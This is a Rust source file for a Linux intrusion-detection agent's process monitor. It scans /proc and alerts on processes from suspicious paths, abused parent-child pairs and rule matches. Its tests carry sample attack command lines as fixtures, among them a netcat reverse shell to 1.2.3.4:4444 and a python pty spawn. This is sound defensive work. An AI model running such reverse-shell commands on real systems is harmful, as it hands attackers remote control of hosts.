//! Process monitor.
//!
//! Diffs the live PID set against the set seen on the previous cycle and
//! classifies every newly-seen process. The set is primed at startup so the
//! processes already running when the agent starts never alert.

use crate::alert::AlertSender;
use crate::config::ProcessMonitorConfig;
use crate::rules::RuleSet;
use anyhow::{Context, Result};
use std::collections::HashSet;
use std::fs;
use std::path::PathBuf;
use std::sync::Arc;
use tokio::sync::watch;
use tracing::{error, info, warn};

#[derive(Debug, Clone)]
pub struct ProcInfo {
    pub pid: u32,
    pub ppid: u32,
    pub name: String,
    pub cmdline: String,
    pub exe_path: Option<PathBuf>,
    pub parent_name: String,
}

pub struct ProcessMonitor {
    config: ProcessMonitorConfig,
    rules: Arc<RuleSet>,
    alerts: AlertSender,
    seen_pids: HashSet<u32>,
    suspicious_parents_lower: HashSet<String>,
    interpreter_tokens_lower: Vec<String>,
}

impl ProcessMonitor {
    pub fn new(config: ProcessMonitorConfig, rules: Arc<RuleSet>, alerts: AlertSender) -> Self {
        let suspicious_parents_lower = config
            .suspicious_parents
            .iter()
            .map(|p| p.to_lowercase())
            .collect();

        let interpreter_tokens_lower = config
            .interpreter_tokens
            .iter()
            .map(|t| t.to_lowercase())
            .collect();

        Self {
            config,
            rules,
            alerts,
            seen_pids: HashSet::new(),
            suspicious_parents_lower,
            interpreter_tokens_lower,
        }
    }

    pub async fn run(&mut self, mut shutdown: watch::Receiver<bool>) -> Result<()> {
        // Prime the seen set so the initial process population never alerts.
        self.seen_pids = list_pids().context("Failed to enumerate /proc at startup")?;
        info!(pids = self.seen_pids.len(), "Process monitor started");
        self.alerts.info("Process monitor started").await;

        let mut ticker =
            tokio::time::interval(tokio::time::Duration::from_secs(self.config.scan_interval_secs));

        loop {
            tokio::select! {
                _ = ticker.tick() => {
                    if let Err(e) = self.scan().await {
                        error!("Process scan failed: {}", e);
                        self.alerts.error(format!("Process scan failed: {}", e)).await;
                    }
                }
                _ = shutdown.changed() => {
                    if *shutdown.borrow() {
                        break;
                    }
                }
            }
        }

        info!("Process monitor stopped");
        Ok(())
    }

    /// One scan cycle: classify every PID not present on the previous cycle.
    pub async fn scan(&mut self) -> Result<()> {
        let current = list_pids().context("Failed to enumerate /proc")?;

        let new_pids: Vec<u32> = current.difference(&self.seen_pids).copied().collect();
        for pid in new_pids {
            // Vanished or access-denied processes are skipped silently
            if let Some(info) = get_process_info(pid) {
                self.analyze(&info).await;
            }
        }

        self.seen_pids = current;
        Ok(())
    }

    async fn analyze(&self, proc: &ProcInfo) {
        if let Some(path) = self.check_suspicious_path(proc) {
            self.report(
                proc,
                format!(
                    "Process {} (PID {}) running from suspicious path {}",
                    proc.name,
                    proc.pid,
                    path.display()
                ),
            )
            .await;
        }

        if let Some(token) = self.check_abused_parent(proc) {
            self.report(
                proc,
                format!(
                    "Process {} (PID {}) spawned by {} runs '{}': {}",
                    proc.name, proc.pid, proc.parent_name, token, proc.cmdline
                ),
            )
            .await;
        }

        if self.rules.is_suspicious_process(&proc.name) {
            self.report(
                proc,
                format!(
                    "Suspicious process name: {} (PID {}, PPID {})",
                    proc.name, proc.pid, proc.ppid
                ),
            )
            .await;
        }

        if let Some(keyword) = self.rules.matches_cmdline_keyword(&proc.cmdline) {
            self.report(
                proc,
                format!(
                    "Process {} (PID {}) cmdline matches keyword '{}': {}",
                    proc.name, proc.pid, keyword, proc.cmdline
                ),
            )
            .await;
        }

        if let Some(pattern) = self.rules.matches_regex(&proc.cmdline) {
            self.report(
                proc,
                format!(
                    "Process {} (PID {}) cmdline matches pattern '{}': {}",
                    proc.name, proc.pid, pattern, proc.cmdline
                ),
            )
            .await;
        }
    }

    fn check_suspicious_path(&self, proc: &ProcInfo) -> Option<PathBuf> {
        let exe_path = proc.exe_path.as_ref()?;

        for suspicious in &self.config.suspicious_paths {
            if exe_path.starts_with(suspicious) {
                return Some(exe_path.clone());
            }
        }
        None
    }

    /// Commonly-abused parent running an interpreter or network tool.
    /// Returns the matched cmdline token.
    fn check_abused_parent(&self, proc: &ProcInfo) -> Option<String> {
        let parent_lower = proc.parent_name.to_lowercase();
        if !self.suspicious_parents_lower.contains(&parent_lower) {
            return None;
        }

        let cmdline_lower = proc.cmdline.to_lowercase();
        self.interpreter_tokens_lower
            .iter()
            .find(|t| cmdline_lower.contains(t.as_str()))
            .cloned()
    }

    async fn report(&self, proc: &ProcInfo, message: String) {
        warn!(
            pid = proc.pid,
            ppid = proc.ppid,
            process = %proc.name,
            cmdline = %proc.cmdline,
            "Detection: {}", message
        );
        self.alerts.warning(message).await;
    }
}

fn list_pids() -> Result<HashSet<u32>> {
    let proc_dir = fs::read_dir("/proc").context("Failed to read /proc")?;

    let mut pids = HashSet::new();
    for entry in proc_dir.flatten() {
        let name = entry.file_name();
        if let Ok(pid) = name.to_string_lossy().parse::<u32>() {
            pids.insert(pid);
        }
    }
    Ok(pids)
}

/// Snapshot of /proc/<pid>. Returns None when the process exited or the
/// entry cannot be read.
fn get_process_info(pid: u32) -> Option<ProcInfo> {
    let proc_path = PathBuf::from(format!("/proc/{}", pid));

    let name = fs::read_to_string(proc_path.join("comm"))
        .ok()?
        .trim()
        .to_string();

    let cmdline = fs::read_to_string(proc_path.join("cmdline"))
        .unwrap_or_default()
        .replace('\0', " ")
        .trim()
        .to_string();

    let exe_path = fs::read_link(proc_path.join("exe")).ok();

    let status = fs::read_to_string(proc_path.join("status")).unwrap_or_default();
    let ppid = parse_status_field(&status, "PPid:").unwrap_or(0);

    let parent_name = fs::read_to_string(format!("/proc/{}/comm", ppid))
        .unwrap_or_default()
        .trim()
        .to_string();

    Some(ProcInfo {
        pid,
        ppid,
        name,
        cmdline,
        exe_path,
        parent_name,
    })
}

fn parse_status_field(status: &str, field: &str) -> Option<u32> {
    for line in status.lines() {
        if line.starts_with(field) {
            return line.split_whitespace().nth(1)?.parse().ok();
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::Alert;
    use tokio::sync::mpsc;

    fn make_monitor(rules: RuleSet) -> (ProcessMonitor, mpsc::Receiver<Alert>) {
        let (tx, rx) = mpsc::channel(100);
        let monitor = ProcessMonitor::new(
            ProcessMonitorConfig::default(),
            Arc::new(rules),
            AlertSender::new(tx),
        );
        (monitor, rx)
    }

    fn proc(name: &str, cmdline: &str, exe: Option<&str>, parent: &str) -> ProcInfo {
        ProcInfo {
            pid: 1234,
            ppid: 1000,
            name: name.to_string(),
            cmdline: cmdline.to_string(),
            exe_path: exe.map(PathBuf::from),
            parent_name: parent.to_string(),
        }
    }

    #[test]
    fn test_suspicious_path_detection() {
        let (monitor, _rx) = make_monitor(RuleSet::default());

        let bad = proc("dropper", "/tmp/dropper", Some("/tmp/dropper"), "bash");
        assert!(monitor.check_suspicious_path(&bad).is_some());

        let shm = proc("x", "/dev/shm/x", Some("/dev/shm/x"), "bash");
        assert!(monitor.check_suspicious_path(&shm).is_some());

        let good = proc("ls", "/bin/ls", Some("/bin/ls"), "bash");
        assert!(monitor.check_suspicious_path(&good).is_none());

        let no_exe = proc("ghost", "", None, "bash");
        assert!(monitor.check_suspicious_path(&no_exe).is_none());
    }

    #[test]
    fn test_abused_parent_detection() {
        let (monitor, _rx) = make_monitor(RuleSet::default());

        let shell = proc("python3", "python3 -c 'import pty'", None, "nginx");
        assert_eq!(monitor.check_abused_parent(&shell).as_deref(), Some("python"));

        let netcat = proc("nc", "nc -e /bin/sh 1.2.3.4 4444", None, "sshd");
        assert_eq!(monitor.check_abused_parent(&netcat).as_deref(), Some("nc"));

        // Suspicious parent but benign cmdline
        let benign = proc("grep", "grep foo /var/log/syslog", None, "bash");
        assert!(monitor.check_abused_parent(&benign).is_none());

        // Interpreter token but unremarkable parent
        let cron = proc("python3", "python3 /opt/job.py", None, "cron");
        assert!(monitor.check_abused_parent(&cron).is_none());
    }

    #[test]
    fn test_parse_status_field() {
        let status = "Name:\tbash\nPPid:\t4321\nUid:\t1000\t1000\t1000\t1000\n";
        assert_eq!(parse_status_field(status, "PPid:"), Some(4321));
        assert_eq!(parse_status_field(status, "Tgid:"), None);
    }

    #[test]
    fn test_list_pids_includes_self() {
        let pids = list_pids().unwrap();
        assert!(pids.contains(&std::process::id()));
    }

    #[test]
    fn test_get_process_info_for_self() {
        let info = get_process_info(std::process::id()).unwrap();
        assert_eq!(info.pid, std::process::id());
        assert!(!info.name.is_empty());
    }

    #[test]
    fn test_get_process_info_vanished_pid() {
        // PID 0 has no /proc entry
        assert!(get_process_info(0).is_none());
    }

    #[tokio::test]
    async fn test_new_pid_classified_at_most_once() {
        let (mut monitor, mut rx) = make_monitor(RuleSet::default());
        let self_pid = std::process::id();

        // Everything except ourselves is already known
        monitor.seen_pids = list_pids().unwrap();
        monitor.seen_pids.remove(&self_pid);

        monitor.scan().await.unwrap();
        // Second cycle: we are in the seen set now, nothing new to classify
        let alerts_after_first: Vec<Alert> = {
            let mut out = Vec::new();
            while let Ok(a) = rx.try_recv() {
                out.push(a);
            }
            out
        };

        monitor.scan().await.unwrap();
        let mut second_cycle = Vec::new();
        while let Ok(a) = rx.try_recv() {
            second_cycle.push(a);
        }

        // Whatever (if anything) fired for us on the first pass, the second
        // pass must be silent for the same PID
        let _ = alerts_after_first;
        assert!(second_cycle.is_empty());
        assert!(monitor.seen_pids.contains(&self_pid));
    }
}
